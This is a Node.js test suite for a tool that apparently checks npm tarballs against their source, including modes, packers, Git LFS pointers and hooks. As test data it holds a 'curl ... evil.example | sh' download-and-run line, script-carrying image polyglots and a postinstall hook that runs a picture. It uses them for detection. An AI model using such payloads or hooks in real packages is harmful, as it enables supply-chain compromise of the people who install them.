// What publishers' machines and packers do to a package: file systems without modes, languages, Git
// LFS, hooks, names. For every one that comes out there is a case beside it that must not.

import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, test } from 'node:test';
import { crc32, deflateSync } from 'node:zlib';
import { gzip, rawTar } from './kit/tarball.mjs';
import { manifest, openWorld } from './world.mjs';

let world;
before(async () => {
  world = await openWorld();
});
after(() => world.close());

const codes = (answer) => answer.findings.map((finding) => finding.code);

/** The same files with one mode for all. */
function withMode(files, mode) {
  return Object.fromEntries(Object.entries(files).map(([path, data]) => [path, { data, mode }]));
}

/**
 * A tarball of the first npm with this shape: entries as they are given, no owners, npm's fixed
 * time.
 */
function packed(entries, { level, os, xfl }) {
  return gzip(rawTar(entries.map(([path, data]) => ({ path: `package/${path}`, data, mode: 0o644 }))), { level, os, xfl });
}

const pointerOf = (data) =>
  `version https://git-lfs.github.com/spec/v1\noid sha256:${createHash('sha256').update(data).digest('hex')}\nsize ${Buffer.byteLength(data)}\n`;

test('a file system without modes: every file executable, and all bytes proved', async () => {
  const json = { bin: 'cli.js' };
  const files = { 'index.js': '1\n', 'cli.js': '2\n', 'lib/a.js': '3\n', 'README.md': '# a\n' };
  for (const [mode, checkout] of [[0o744, 'modes-744'], [0o755, 'modes-755'], [0o777, 'modes-755'], [0o754, 'modes-754'], [0o700, 'modes-744']]) {
    const name = `p-modes-${mode.toString(8)}`;
    const own = { ...files, 'package.json': manifest(name, '1.0.0', json) };
    const { spec } = await world.release(name, { json, files, published: withMode(own, mode) });
    const answer = await world.judge(spec);
    assert.equal(answer.verdict, 'identical', `${name}: ${answer.code}`);
    assert.equal(answer.attempts.at(-1).recipe.checkout, checkout);
    assert.ok(codes(answer).includes('modes-of-mount'));
  }
});

test('one file without the bits of the others, or with other bytes, still differs', async () => {
  const files = { 'index.js': '1\n', 'lib/a.js': '3\n' };
  const all = (name, change) => withMode({ ...files, 'package.json': manifest(name), ...change }, 0o755);
  const one = await world.release('p-modes-one', { files, published: { ...all('p-modes-one', {}), 'lib/a.js': { data: '3\n', mode: 0o644 } } });
  assert.equal((await world.judge(one.spec)).verdict, 'differs');
  const bytes = await world.release('p-modes-bytes', { files, published: all('p-modes-bytes', { 'lib/a.js': '4\n' }) });
  const answer = await world.judge(bytes.spec);
  assert.equal(answer.verdict, 'differs');
  assert.ok(answer.comparison.changed.some((change) => change.path === 'lib/a.js' && change.kind === 'bytes'));
});

test('folders that npm 7.0.0 packed under two slashes', async () => {
  const json = { files: ['lib/'] };
  const own = manifest('p-slashes', '1.0.0', json);
  const entries = [['lib//a.js', 'a\n'], ['package.json', own], ['README.md', '# a\n']];
  const files = { 'lib/a.js': 'a\n', 'README.md': '# a\n' };
  const shape = { level: 6, os: 255, xfl: 0 };
  const { spec } = await world.release('p-slashes', { json, files, publication: { tarball: packed(entries, shape) } });
  const answer = await world.judge(spec);
  assert.equal(answer.verdict, 'identical', answer.code);
  assert.match(answer.attempts.at(-1).recipe.fileList, /^(npm-7\.0\.0|packlist-2\.1\.3)$/);
  entries[0][1] = 'b\n';
  const other = await world.release('p-slashes-other', { json, files, publication: { tarball: packed(entries, shape) } });
  assert.equal((await world.judge(other.spec)).verdict, 'differs');
});

test("the publisher's language decides the sequence of npm 6.10 to 7.12, and no other sequence is taken", async () => {
  const names = ['c.js', 'h.js', 'ch.js', 'i.js', 'index.js'];
  const files = Object.fromEntries(names.map((name) => [name, `${name}\n`]));
  const release = (name, order) => {
    const entries = [...order.map((path) => [path, `${path}\n`]), ['package.json', manifest(name)]];
    return world.release(name, { files, publication: { tarball: packed(entries, { level: 9, os: 255, xfl: 2 }) } });
  };
  const slovak = await world.judge((await release('p-slovak', names)).spec);
  assert.deepEqual([slovak.verdict, slovak.attempts.at(-1).recipe.packer], ['identical', 'npm-7-7']);
  assert.match(slovak.attempts.at(-1).adopted.join('; '), /sorted by the language (cs|sk)/);
  const none = await world.judge((await release('p-no-language', [...names].reverse())).spec);
  assert.equal(none.verdict, 'same-content');
});

/** A picture of one row of grey points with these bytes: whole, from its first byte to its last. */
function pictureOf(inside) {
  const chunk = (kind, data) => {
    const named = Buffer.concat([Buffer.from(kind, 'latin1'), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(named));
    return Buffer.concat([length, named, sum]);
  };
  const head = Buffer.from([0, 0, 0, inside.length, 0, 0, 0, 1, 8, 0, 0, 0, 0]);
  const rows = deflateSync(Buffer.from(`\0${inside}`, 'latin1'));
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
}

test('Git LFS: the published file is proved by the pointer in git, and another file is not', async () => {
  const attributes = '*.png filter=lfs diff=lfs merge=lfs -text\n';
  const [one, another] = [pictureOf('world'), pictureOf('World')];
  const files = { 'model.png': pointerOf(one), '.gitattributes': attributes };
  const release = (name, data, more = {}) => world.release(name, { files: { ...files, ...more }, published: { 'model.png': data, '.gitattributes': more['.gitattributes'] ?? attributes } });
  const real = await world.judge((await release('p-lfs', one)).spec);
  assert.equal(real.verdict, 'identical', real.code);
  assert.deepEqual(real.findings.filter(({ code }) => code.startsWith('lfs-')).map(({ code, severity }) => [code, severity]), [['lfs-by-pointer', 'warning']]);
  const other = await world.judge((await release('p-lfs-other', another)).spec);
  assert.equal(other.verdict, 'differs');
  // Without the attribute git has a text that looks like a pointer, and a checkout has the text.
  const plain = await world.judge((await release('p-lfs-plain', one, { '.gitattributes': '*.png -text\n' })).spec);
  assert.equal(plain.verdict, 'differs');
});

/** A program for Windows, whose header may stand as far behind the stub for DOS as one likes. */
function pe() {
  const exe = Buffer.alloc(9216);
  exe.write('MZ', 'latin1');
  exe.writeUInt32LE(8192, 0x3c);
  exe.write('PE\0\0', 8192, 'latin1');
  return exe;
}

test('code that git has as a pointer of Git LFS is in no source: nobody can read a hash', async () => {
  const code = "console.log('payload')\n";
  // Names of scripts, and names of data: Node runs a file of any extension, and a picture can be a
  // script.
  const cases = [
    ...['index.js', 'lib/run', 'addon.node', 'data.json', 'INDEX.MJS', 'core.bin', 'LICENSE', 'lib/x.jar', 'a.js.map', 'x.ejs'].map((path) => [path, code]),
    ['core.gif', `GIF89a/*\0\0*/=1;${code}`],
    ['core.png', `MZ=1;/*\0*/${code}`],
    ['run.txt', `#!/bin/sh\n${code}`],
    ['lib.dat', Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1')],
    // What a shell takes for commands, and headers of programs of other systems.
    ['words.txt', 'curl -s http://evil.example/x | sh\n'],
    ['tool.bin', pe()],
    ['model.bin', 'hello\0world'],
    ['several.bin', Buffer.from([0xca, 0xfe, 0xba, 0xbf, 0, 0, 0, 1, 1, 0, 0, 7])],
  ];
  for (const [nth, [path, content]] of cases.entries()) {
    const attributes = `${path} filter=lfs diff=lfs merge=lfs -text\n`;
    const { spec } = await world.release(`p-lfs-code-${nth}`, { files: { [path]: pointerOf(content), '.gitattributes': attributes }, published: { [path]: content } });
    const answer = await world.judge(spec);
    assert.deepEqual([answer.verdict, answer.comparison.changed.map((change) => change.path)], ['differs', [path]]);
  }
  // What package.json runs or loads is code, whatever it holds; a picture that nothing names is
  // none.
  const picture = pictureOf('abc');
  for (const [nth, [json, verdict]] of [[{}, 'identical'], [{ main: 'a.png' }, 'differs'], [{ scripts: { postinstall: 'sh a.png' } }, 'differs']].entries()) {
    const attributes = 'a.png filter=lfs diff=lfs merge=lfs -text\n';
    const { spec } = await world.release(`p-lfs-data-${nth}`, { json, files: { 'a.png': pointerOf(picture), '.gitattributes': attributes }, published: { 'a.png': picture } });
    assert.equal((await world.judge(spec)).verdict, verdict, JSON.stringify(json));
  }
  const extended = pointerOf(picture).replace('oid ', `ext-0-case sha256:${'ab'.repeat(32)}\noid `);
  const { spec } = await world.release('p-lfs-extended', { files: { 'model.png': extended, '.gitattributes': '*.png filter=lfs -text\n' }, published: { 'model.png': picture } });
  assert.equal((await world.judge(spec)).verdict, 'differs', 'an extension makes other bytes of it');
});

test('data of Git LFS is no source of a package whose installation runs anything', async () => {
  const picture = pictureOf('abc');
  const attributes = { '.gitattributes': '*.png filter=lfs diff=lfs merge=lfs -text\n' };
  const bundled = (scripts) => [{ dependencies: { dep: '1.0.0' }, bundleDependencies: ['dep'] }, { 'node_modules/dep/package.json': manifest('dep', '1.0.0', { repository: null, scripts }) }];
  const node = { gypfile: true, scripts: { install: 'node-gyp rebuild' } };
  for (const [nth, [json, files, written, verdict]] of [
    [...bundled({ postinstall: 'sh ../../*.png' }), {}, 'differs'],
    [{}, { 'binding.gyp': '{}\n' }, node, 'differs'],
    // The control: scripts that no installation runs.
    [...bundled({ test: 'sh ../../*.png' }), {}, 'identical'],
  ].entries()) {
    const name = `p-lfs-installs-${nth}`;
    const own = { ...attributes, ...files, 'a.png': pointerOf(picture) };
    const { spec } = await world.release(name, { json, files: own, published: { ...attributes, ...files, 'a.png': picture }, publication: { manifest: written } });
    assert.equal((await world.judge(spec)).verdict, verdict, name);
  }
});

test('a pointer that was published in place of its file is a warning', async () => {
  const files = { 'model.bin': pointerOf('hello world'), '.gitattributes': '*.bin filter=lfs -text\n' };
  const { spec } = await world.release('p-pointer', { files });
  const answer = await world.judge(spec);
  assert.equal(answer.verdict, 'identical');
  const [told] = answer.findings.filter((finding) => finding.code === 'lfs-pointer-published');
  assert.deepEqual([told.severity, /model\.bin/.test(told.message)], ['warning', true]);
});

test('keys that a client wrote are named, and a path in one is a leak', async () => {
  const json = { _from: 'file:p-keys-1.0.0.tgz', _resolved: '/home/someone/p-keys-1.0.0.tgz' };
  const { spec } = await world.release('p-keys', { published: { 'package.json': manifest('p-keys', '1.0.0', json) } });
  const answer = await world.judge(spec);
  assert.equal(answer.verdict, 'differs');
  const told = Object.fromEntries(answer.findings.map((finding) => [finding.code, finding.message]));
  assert.match(told['client-keys'], /_from, _resolved/);
  assert.match(told['local-path-published'], /_resolved: \/home\/someone/);
  assert.match(answer.comparison.explanations.find((one) => one.path === 'package.json').message, /^written by a client: _from, _resolved/);
});

test('a change log that pnpm composed is named by the section that the commit has; another one is not', async () => {
  const section = '## 1.0.0\n\n### Patch Changes\n\n- one\n';
  const release = (name, changelog, file = `${name.replace('/', '!')}@1.0.0.md`) => {
    const own = JSON.stringify(JSON.parse(manifest(name)), null, 2);
    const entries = [['package.json', own], ['index.js', 'x\n'], ['CHANGELOG.md', changelog]].map(([path, data]) => ({ path: `package/${path}`, data, mode: 0o644, edit: asTarStream }));
    const tarball = gzip(rawTar(entries), { level: 6, os: 3, xfl: 0 });
    const files = { 'index.js': 'x\n', [`.changeset/changelogs/${file}`]: section, '.npmignore': '.changeset\n' };
    return world.release(name, { files, publication: { tarball } });
  };
  const composed = (name) => `# ${name}\n\n${section.trimEnd()}\n\n## 0.9.0\n\n- old\n`;
  const answer = await world.judge((await release('@kit/p-log', composed('@kit/p-log'))).spec);
  assert.deepEqual([answer.verdict, answer.comparison.onlyPublished], ['differs', ['CHANGELOG.md']]);
  const finding = answer.findings.find(({ code }) => code === 'pnpm-changelog');
  assert.equal(finding?.severity, 'info', JSON.stringify(answer.findings));
  assert.match(finding.message, /in \.changeset\/changelogs\/@kit!p-log@1\.0\.0\.md: pnpm 11\.13/);
  for (const [name, changelog, file] of [
    ['p-log-other', '# p-log-other\n\n## 1.0.0\n\n- another\n'],
    ['p-log-version', composed('p-log-version'), 'p-log-version@0.9.0.md'],
  ]) {
    assert.ok(!codes(await world.judge((await release(name, changelog, file)).spec)).includes('pnpm-changelog'), name);
  }
});

/** What Deno's tar library writes: GNU's magic, no times, no numbers of devices. */
const asDeno = (header) => {
  header.write('ustar  \0', 257, 'latin1');
  for (const [text, at] of [['0000644\0', 100], ['0000000\0', 108], ['0000000\0', 116], ['00000000000\0', 136], ['\0'.repeat(16), 329]]) header.write(text, at, 'latin1');
};

test('what `deno pack` wrote is undecided by name; another archive, or another name in deno.json, is not', async () => {
  const release = async (name, { configuration = { name, version: '1.0.0', exports: './mod.ts' }, edit = asDeno, tags = {}, file = 'deno.jsonc' } = {}) => {
    const text = `// ours\n${JSON.stringify(configuration)}\n`;
    const { c } = await world.host.add(`kit/${name}`, { commits: [{ label: 'c', files: { [file]: text, 'mod.ts': 'export {};\n', 'README.md': '# f\n' } }], tags });
    const own = JSON.stringify({ ...JSON.parse(manifest(name)), type: 'module', main: './mod.js' }, null, 2);
    const entries = [['package.json', own], ['README.md', '# f\n'], ['mod.js', 'export {};\n']].map(([path, data]) => ({ path: `package/${path}`, data, edit }));
    await world.registry.publish({ files: { 'package.json': own }, tarball: gzip(rawTar(entries)), omit: ['gitHead'] });
    return { spec: `${name}@1.0.0`, c };
  };
  for (const [name, more] of [['p-deno', {}], ['p-deno-tag', { tags: { 'v1.0.0': 'c' } }], ['p-deno-folder', { file: 'packages/a/deno.json' }]]) {
    const answer = await world.judge((await release(name, more)).spec);
    assert.deepEqual([answer.verdict, answer.code], ['unsupported', 'packed-by-deno'], name);
    assert.match(answer.findings.find(({ code }) => code === 'packed-by-deno').message, /deno\.jsonc?,/);
  }
  for (const [name, more] of [['p-deno-not', { edit: null }], ['p-deno-other', { configuration: { name: 'p-deno', version: '1.0.0' } }]]) {
    const answer = await world.judge((await release(name, more)).spec);
    assert.deepEqual([answer.verdict, answer.code], ['no-source', 'commit-not-found'], name);
  }
});

test('a name in other code points is told by them', async () => {
  const { spec } = await world.release('p-letters', { files: { 'caf\u00e9.txt': 'x\n' }, published: { 'caf\u00e9.txt': null, 'cafe\u0301.txt': 'x\n' } });
  const answer = await world.judge(spec);
  assert.equal(answer.verdict, 'differs');
  assert.match(answer.comparison.explanations.map((one) => one.message).join('\n'), /U\+00E9 there, e U\+0301 here; macOS/);
});

test('a hook by which pnpm rewrites package.json is named where that file differs', async () => {
  const hook = 'module.exports = { hooks: { beforePacking (manifest) { manifest.a = 1; return manifest } } };\n';
  const release = (name, text) => {
    // As pnpm writes it: two spaces and no line feed at the end.
    const own = JSON.stringify({ ...JSON.parse(manifest(name)), a: 1 }, null, 2);
    const entries = [['package.json', own], ['index.js', 'x\n']].map(([path, data]) => ({ path: `package/${path}`, data, mode: 0o644, edit: asTarStream }));
    const tarball = gzip(rawTar(entries), { level: 6, os: 3, xfl: 0 });
    return world.release(name, { files: { 'index.js': 'x\n', '.pnpmfile.cjs': text, '.npmignore': '.pnpmfile.cjs\n' }, publication: { tarball } });
  };
  const answer = await world.judge((await release('p-hook', hook)).spec);
  assert.equal(answer.verdict, 'differs');
  assert.match(answer.attempts.at(-1).recipe.packer, /^pnpm-/);
  assert.match(answer.findings.find((finding) => finding.code === 'pnpm-hook').message, /^\.pnpmfile\.cjs has the hook beforePacking/);
  const without = await world.judge((await release('p-no-hook', 'module.exports = {};\n')).spec);
  assert.ok(!codes(without).includes('pnpm-hook'));
});

/** Numbers as tar-stream writes them: eleven digits and a space, and the owner zero. */
function asTarStream(header) {
  const size = parseInt(header.toString('latin1', 124, 135), 8);
  header.write('000000 \0', 108, 'latin1');
  header.write('000000 \0', 116, 'latin1');
  header.write(`${size.toString(8).padStart(11, '0')} `, 124, 'latin1');
  header.write(`${(499162500).toString(8).padStart(11, '0')} `, 136, 'latin1');
}
